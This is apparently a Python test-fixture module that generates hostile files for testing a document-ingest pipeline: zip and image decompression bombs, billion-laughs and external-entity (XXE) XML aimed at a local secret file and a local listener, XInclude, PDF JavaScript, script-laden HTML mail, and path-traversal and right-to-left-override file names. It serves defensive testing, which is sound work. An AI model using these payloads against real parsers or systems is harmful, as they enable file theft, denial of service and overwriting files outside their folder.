"""Hostile files, made here: bombs, entity attacks, lying and empty files, crafted PDFs, images and
mail, dangerous names. Used by ``tests/test_hostile_files.py`` and ``bench/fuzz_readers.py``.

Each :class:`Hostile` says what it is, its bytes and name, and what a safe reader must do with it:
``refused`` (the reading ends in an error, quarantining the item) or ``read`` (it is read, and
nothing dangerous comes through: no entity expanded, no file or network resource fetched).
``leak`` marks text that must never appear in what was read (a secret a file tried to pull in).
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path
from typing import Callable, Literal

from ingest.samples import SampleDocument, build_docx, build_odt

SECRET = "BI-MAT-KHONG-DUOC-LOT-RA"  # the content of the local file the attacks try to read
EDXML_NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
# the kinds :func:`cases` makes, in order (listed here so that tests can be named without building them)
KINDS = (
    "zip-bomb-docx", "zip-bomb-odt", "zip-bomb-zip", "zip-bomb-edxml-payload", "zip-bomb-edxml-zip-payload",
    "zip-lying-sizes", "zip-nested-10", "zip-100000-members", "docx-100000-members", "edxml-billion-laughs",
    "edxml-external-entity-file", "edxml-external-entity-network", "edxml-parameter-entity", "edxml-xinclude",
    "edxml-invalid-base64", "docx-billion-laughs", "docx-external-entity-file", "docx-external-entity-network",
    "docx-parameter-entity", "docx-xinclude", "odt-billion-laughs", "odt-external-entity-file",
    "odt-external-entity-network", "odt-parameter-entity", "odt-xinclude", "png-decompression-bomb", "tiff-huge",
    "tiff-5000-frames", "pdf-encrypted", "pdf-truncated", "pdf-looping-page-tree", "pdf-javascript", "pdf-3000-pages",
    "pdf-enormous-page", "pdf-image-bomb", "extension-lies-docx-as-pdf", "extension-lies-exe-as-pdf", "empty-pdf",
    "empty-docx", "empty-odt", "empty-doc", "empty-eml", "empty-xml", "empty-png", "empty-zip", "empty-txt",
    "zip-name-traversal", "zip-name-nul", "mail-name-rtl-override", "mail-name-1000-chars", "mail-name-traversal",
    "mail-script-forms-remote-images", "mail-500-attachments", "mail-broken-rfc2047-unknown-charset",
    "mail-nested-50", "docx-20mb-paragraph",
)


@dataclass(frozen=True)
class Hostile:
    kind: str
    name: str
    data: bytes
    expect: Literal["refused", "read"]
    leak: tuple[str, ...] = (SECRET, "lol" * 20)
    note: str = ""


@dataclass
class Targets:
    """Where the attacks point: a local secret file, a TCP listener that must hear nothing, and a
    folder a traversal name aims at."""

    secret_file: Path
    port: int
    outside: Path
    cases: list[Hostile] = field(default_factory=list)


# --- building blocks -----------------------------------------------------------------------------

def _zip(members: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def _replace_member(package: bytes, member: str, data: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(package))
    return _zip([(info.filename, data if info.filename == member else source.read(info))
                 for info in source.infolist()])


def _zeros_member(size: int) -> bytes:
    return b"<w:t>" + b"0" * size + b"</w:t>"


def _pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered objects (1..n), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer_extra, xref)
    return bytes(out)


def _text_page_pdf(text: bytes = b"QUYET DINH", *, extra_catalog: bytes = b"", size: bytes = b"595 842") -> bytes:
    content = b"BT /F1 14 Tf 72 720 Td (" + text + b") Tj ET"
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 " + size + b"] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def _many_pages_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
               b"<< /Length 0 >>\nstream\n\nendstream"]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * pages
    return _pdf(objects)


def _looping_pdf() -> bytes:
    """A page tree whose node is its own kid."""
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


def _image_bomb_pdf() -> bytes:
    """One page with an image that inflates to 1.6 GB (40,000 × 40,000 grey pixels)."""
    raw = zlib.compress(b"\x00" * (16 * 2**20), 9)  # the stream is cut short: a decoder must not trust the size
    content = b"q 595 0 0 842 0 0 cm /Im1 Do Q"
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /XObject /Subtype /Image /Width 40000 /Height 40000 /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(raw) + raw + b"\nendstream",
    ])


def _png(width: int, height: int, *, rows: bytes | None = None) -> bytes:
    """A 1-bit PNG of any declared size whose pixel data compresses to almost nothing."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    line = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(line) for _ in range(min(height, 2000))) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", body) + chunk(b"IEND", b""))


def _tiff_frames(frames: int, side: int = 1200) -> bytes:
    """A TIFF of ``frames`` blank 1-bit pages of ``side`` × ``side`` pixels, every page pointing at the
    same strip (small on disk; decoding all of them at once would take gigabytes)."""
    strip = b"\x00" * (((side + 7) // 8) * side)
    entries = 9
    ifd_size = 2 + 12 * entries + 4
    strip_at = 8
    first_ifd = strip_at + len(strip)
    out = bytearray(b"II*\x00" + struct.pack("<I", first_ifd) + strip)
    for index in range(frames):
        at = first_ifd + index * ifd_size
        following = at + ifd_size if index + 1 < frames else 0
        fields = [(256, 4, side), (257, 4, side), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, strip_at),
                  (277, 3, 1), (278, 4, side), (279, 4, len(strip))]
        out += struct.pack("<H", entries) + b"".join(
            struct.pack("<HHI", tag, kind, 1) + (struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value))
            for tag, kind, value in fields) + struct.pack("<I", following)
    return bytes(out)


def _tiff_huge() -> bytes:
    """A TIFF header declaring 100,000 × 100,000 pixels, with one strip of nothing."""
    entries = [(256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1), (278, 4, 1, 100_000), (279, 4, 1, 16)]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHI", tag, kind, count) + (struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value))
        for tag, kind, count, value in entries) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * 16


def _edxml(*, before: str = "", subject: str = "Về việc thử", attachment: str | None = None,
           attachment_name: str = "qd.docx", xinclude: bool = False) -> bytes:
    encoded = "" if attachment is None else (
        f"<AttachmentEncoded><Attachment><AttachmentName>{attachment_name}</AttachmentName>"
        f"<ContentTransferEncoded>{attachment}</ContentTransferEncoded></Attachment></AttachmentEncoded>")
    return f"""<?xml version="1.0" encoding="UTF-8"?>{before}<edXML xmlns="{EDXML_NS}"{' xmlns:xi="http://www.w3.org/2001/XInclude"' if xinclude else ''}><edXML:edXMLEnvelope xmlns:edXML="{EDXML_NS}">
<edXML:edXMLHeader><edXML:MessageHeader><edXML:From><edXML:OrganName>Sở Xây dựng tỉnh Kon Tum</edXML:OrganName></edXML:From>
<edXML:Code><edXML:CodeNumber>12</edXML:CodeNumber><edXML:CodeNotation>QĐ-SXD</edXML:CodeNotation></edXML:Code>
<edXML:DocumentType><edXML:TypeName>Quyết định</edXML:TypeName></edXML:DocumentType>
<edXML:Subject>{subject}</edXML:Subject>
</edXML:MessageHeader></edXML:edXMLHeader></edXML:edXMLEnvelope>{encoded}</edXML>""".encode()


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10)) + "]>")


def _dtd(entity: str) -> str:
    return f"<!DOCTYPE x [{entity}]>"


def _mail(build: Callable[[EmailMessage], None], subject: str = "Văn bản gửi Sở") -> bytes:
    message = EmailMessage()
    message["From"] = "vanphong@sxd.kontum.gov.vn"
    message["To"] = "tobientap@sxd.kontum.gov.vn"
    message["Subject"] = subject
    build(message)
    return message.as_bytes()


def _html_mail(port: int) -> bytes:
    html = (f"<html><body><script>fetch('http://127.0.0.1:{port}/script')</script>"
            f"<form action='http://127.0.0.1:{port}/form'><input name='mat-khau'></form>"
            f"<img src='http://127.0.0.1:{port}/anh.png'><p>Kính gửi Tổ Biên tập</p></body></html>")

    def build(message: EmailMessage) -> None:
        message.set_content("Kính gửi Tổ Biên tập")
        message.add_alternative(html, subtype="html")
    return _mail(build)


def _many_attachments(count: int) -> bytes:
    def build(message: EmailMessage) -> None:
        message.set_content("Nhiều tệp đính kèm")
        for i in range(count):
            message.add_attachment(f"tệp {i}".encode(), maintype="text", subtype="plain", filename=f"tep-{i}.txt")
    return _mail(build)


def _nested_mail(depth: int) -> bytes:
    inner = EmailMessage()
    inner["From"], inner["Subject"] = "a@b.vn", "Thư trong cùng"
    inner.set_content("Thư trong cùng")
    for level in range(depth):
        outer = EmailMessage()
        outer["From"], outer["Subject"] = "a@b.vn", f"Lop {level}"
        outer.set_content("Chuyển tiếp")
        outer.add_attachment(inner)  # message/rfc822, carried as is (not base64, which would grow by level)
        inner = outer
    return inner.as_bytes()


def _broken_words_mail() -> bytes:
    return (b"From: =?utf-8?B?!!!kh\xf4ng-ph\xe1i-base64?= <a@b.vn>\r\n"
            b"Subject: =?x-khong-co-bang-ma?Q?V=E1n_b=E1n?= =?utf-8?Q?=ZZ=?=\r\n"
            b"Content-Type: text/plain; charset=x-khong-co-bang-ma\r\n\r\n"
            b"N\xf4i dung \xff\xfe\r\n")


def _mail_with_named_attachment(filename: str) -> bytes:
    def build(message: EmailMessage) -> None:
        message.set_content("Tệp đính kèm")
        message.add_attachment(b"noi dung", maintype="application", subtype="octet-stream", filename=filename)
    return _mail(build)


_SYLLABLES = ("xây dựng quản lý quy hoạch kiến trúc hạ tầng đô thị nhà ở công trình thẩm định cấp phép giấy "
              "chứng nhận năng lực hoạt động vật liệu kinh tế thanh tra văn phòng sở ban hành quyết định thông tư "
              "nghị định hướng dẫn thực hiện điều khoản chương mục báo cáo kế hoạch tỉnh huyện xã phường dự án vốn "
              "đầu tư ngân sách thủ tục hành chính hồ sơ tiếp nhận trả kết quả").split()


def _words(size: int) -> str:
    """About ``size`` bytes of Vietnamese words in a random order (compressing like real text)."""
    import random

    draw = random.Random(20261201)
    words: list[str] = []
    length = 0
    while length < size:
        word = draw.choice(_SYLLABLES)
        words.append(word)
        length += len(word.encode()) + 1
    return " ".join(words)


def _runs(size: int) -> str:
    """One paragraph's worth of runs (``</w:t></w:r><w:r><w:t>``) holding ``size`` bytes of words, as a
    word processor writes a very long paragraph."""
    text = _words(size)
    return "</w:t></w:r><w:r><w:t>".join(text[i:i + 8192] for i in range(0, len(text), 8192))


def _zip_many_members(count: int) -> bytes:
    """``count`` empty members, written straight into a ZIP (zipfile would take seconds)."""
    local, central = bytearray(), bytearray()
    for i in range(count):
        name = b"%d" % i
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0,
                               0, offset) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), len(central),
                      len(local), 0)
    return bytes(local + central + end)


def _lying_zip() -> bytes:
    """A member whose header declares 10 bytes but which inflates to 5 MB."""
    data = bytearray(_zip([("a.txt", b"a" * (5 * 2**20))]))
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        data[at + size_at:at + size_at + 4] = struct.pack("<I", 10)
    return bytes(data)


def _nested_zips(depth: int) -> bytes:
    data = _zip([("trong-cung.txt", b"noi dung")])
    for level in range(depth):
        data = _zip([(f"lop-{level}.zip", data)])
    return data


# --- the cases -----------------------------------------------------------------------------------

def cases(targets: Targets) -> list[Hostile]:
    secret_url = targets.secret_file.as_uri()
    net = f"http://127.0.0.1:{targets.port}/thu"
    sample = SampleDocument()
    docx, odt = build_docx(sample), build_odt(sample)
    doc_xml = zipfile.ZipFile(io.BytesIO(docx)).read("word/document.xml").decode()
    content_xml = zipfile.ZipFile(io.BytesIO(odt)).read("content.xml").decode()

    def in_docx(dtd: str, body_text: str) -> bytes:
        declaration, rest = doc_xml.split("?>", 1)
        xml = declaration + "?>" + dtd + rest.replace(sample.subject, body_text, 1)
        return _replace_member(docx, "word/document.xml", xml.encode())

    def in_odt(dtd: str, body_text: str) -> bytes:
        declaration, rest = content_xml.split("?>", 1)
        xml = declaration + "?>" + dtd + rest.replace(sample.subject, body_text, 1)
        return _replace_member(odt, "content.xml", xml.encode())

    xinclude = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret_url}" parse="text"/>'
    bomb = _zeros_member(60 * 2**20)
    bomb_docx = _replace_member(docx, "word/document.xml", bomb)
    empty_kinds = ["pdf", "docx", "odt", "doc", "eml", "xml", "png", "zip", "txt"]
    out = [
        Hostile("zip-bomb-docx", "bom.docx", bomb_docx, "refused"),
        Hostile("zip-bomb-odt", "bom.odt", _replace_member(odt, "content.xml", bomb), "refused"),
        Hostile("zip-bomb-zip", "bom.zip", _zip([("a.txt", b"\x00" * (60 * 2**20))]), "refused"),
        Hostile("zip-bomb-edxml-payload", "bom.edxml", _edxml(attachment=base64.b64encode(bomb_docx).decode()),
                "read", note="the package is read; its bomb attachment is refused"),
        Hostile("zip-bomb-edxml-zip-payload", "bom-zip.edxml",
                _edxml(attachment=base64.b64encode(_zip([("a.txt", b"\x00" * (60 * 2**20))])).decode(),
                       attachment_name="tep.zip"), "refused"),
        Hostile("zip-lying-sizes", "doi.zip", _lying_zip(), "refused"),
        Hostile("zip-nested-10", "long-nhau.zip", _nested_zips(10), "read", note="read to the nesting limit"),
        Hostile("zip-100000-members", "nhieu-tep.zip", _zip_many_members(100_000), "refused"),
        Hostile("docx-100000-members", "nhieu-tep.docx", _zip_many_members(100_000), "refused"),
        Hostile("edxml-billion-laughs", "lol.edxml", _edxml(before=LAUGHS, subject="&lol9;"), "refused"),
        Hostile("edxml-external-entity-file", "xxe.edxml",
                _edxml(before=_dtd(f'<!ENTITY xxe SYSTEM "{secret_url}">'), subject="&xxe;"), "refused"),
        Hostile("edxml-external-entity-network", "xxe-mang.edxml",
                _edxml(before=_dtd(f'<!ENTITY xxe SYSTEM "{net}">'), subject="&xxe;"), "refused"),
        Hostile("edxml-parameter-entity", "pe.edxml",
                _edxml(before=_dtd(f'<!ENTITY % pe SYSTEM "{net}"> %pe;'), subject="thử"), "refused"),
        Hostile("edxml-xinclude", "xi.edxml",
                _edxml(subject=f'<xi:include href="{secret_url}" parse="text"/>', xinclude=True), "refused"),
        Hostile("edxml-invalid-base64", "base64.edxml", _edxml(attachment="!!!khong phai base64***"), "read",
                note="the attachment is skipped with a warning"),
        Hostile("docx-billion-laughs", "lol.docx", in_docx(LAUGHS, "&lol9;"), "refused"),
        Hostile("docx-external-entity-file", "xxe.docx",
                in_docx(_dtd(f'<!ENTITY xxe SYSTEM "{secret_url}">'), "&xxe;"), "refused"),
        Hostile("docx-external-entity-network", "xxe-mang.docx",
                in_docx(_dtd(f'<!ENTITY xxe SYSTEM "{net}">'), "&xxe;"), "refused"),
        Hostile("docx-parameter-entity", "pe.docx", in_docx(_dtd(f'<!ENTITY % pe SYSTEM "{net}"> %pe;'), "thử"),
                "refused"),
        Hostile("docx-xinclude", "xi.docx", in_docx("", xinclude), "refused"),
        Hostile("odt-billion-laughs", "lol.odt", in_odt(LAUGHS, "&lol9;"), "refused"),
        Hostile("odt-external-entity-file", "xxe.odt",
                in_odt(_dtd(f'<!ENTITY xxe SYSTEM "{secret_url}">'), "&xxe;"), "refused"),
        Hostile("odt-external-entity-network", "xxe-mang.odt",
                in_odt(_dtd(f'<!ENTITY xxe SYSTEM "{net}">'), "&xxe;"), "refused"),
        Hostile("odt-parameter-entity", "pe.odt", in_odt(_dtd(f'<!ENTITY % pe SYSTEM "{net}"> %pe;'), "thử"),
                "refused"),
        Hostile("odt-xinclude", "xi.odt", in_odt("", xinclude), "refused"),
        Hostile("png-decompression-bomb", "bom.png", _png(60_000, 60_000), "refused"),
        Hostile("tiff-huge", "lon.tiff", _tiff_huge(), "refused"),
        Hostile("tiff-5000-frames", "nhieu-trang.tiff", _tiff_frames(5000), "refused"),
        Hostile("pdf-encrypted", "mat-khau.pdf", _encrypted(_text_page_pdf()), "refused"),
        Hostile("pdf-truncated", "cut.pdf", _text_page_pdf()[:300], "refused"),
        Hostile("pdf-looping-page-tree", "vong.pdf", _looping_pdf(), "refused"),
        Hostile("pdf-javascript", "js.pdf", _text_page_pdf(extra_catalog=b"/OpenAction << /S /JavaScript /JS "
                                                           b"(app.launchURL\\('" + net.encode() + b"'\\)) >> "),
                "read"),
        Hostile("pdf-3000-pages", "3000-trang.pdf", _many_pages_pdf(3000), "refused"),
        Hostile("pdf-enormous-page", "trang-lon.pdf", _text_page_pdf(size=b"14400 14400"), "read"),
        Hostile("pdf-image-bomb", "anh-bom.pdf", _image_bomb_pdf(), "read"),
        Hostile("extension-lies-docx-as-pdf", "that-ra-la-docx.pdf", docx, "read"),
        Hostile("extension-lies-exe-as-pdf", "chuong-trinh.pdf", b"MZ\x90\x00" + b"\x00" * 200 + b"PE\x00\x00",
                "refused"),
        *[Hostile(f"empty-{kind}", f"rong.{kind}", b"", "refused") for kind in empty_kinds],
        Hostile("zip-name-traversal", "duong-dan.zip",
                _zip([("../../../../" + targets.outside.name + "/pwned.txt", b"x"),
                      (str(targets.outside / "pwned-abs.txt"), b"x")]), "read"),
        Hostile("zip-name-nul", "nul.zip", _zip([("a\x00b.txt", b"x")]), "read"),
        Hostile("mail-name-rtl-override", "rtl.eml", _mail_with_named_attachment("hoa-don\u202etxt.exe"), "read"),
        Hostile("mail-name-1000-chars", "dai.eml", _mail_with_named_attachment("ắ" * 1000 + ".pdf"), "read"),
        Hostile("mail-name-traversal", "duong-dan.eml",
                _mail_with_named_attachment("../../../../" + targets.outside.name + "/pwned.docx"), "read"),
        Hostile("mail-script-forms-remote-images", "html.eml", _html_mail(targets.port), "read"),
        Hostile("mail-500-attachments", "500.eml", _many_attachments(500), "read"),
        Hostile("mail-broken-rfc2047-unknown-charset", "hong.eml", _broken_words_mail(), "read"),
        Hostile("mail-nested-50", "long-nhau.eml", _nested_mail(50), "read"),
        Hostile("docx-20mb-paragraph", "doan-dai.docx",
                _replace_member(docx, "word/document.xml",
                                doc_xml.replace(sample.subject, _runs(20 * 2**20), 1).encode()), "read"),
    ]
    targets.cases = out
    return out


def _encrypted(pdf: bytes) -> bytes:
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(pdf)))
    writer.encrypt("chu-so-huu", "mat-khau-nguoi-doc")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
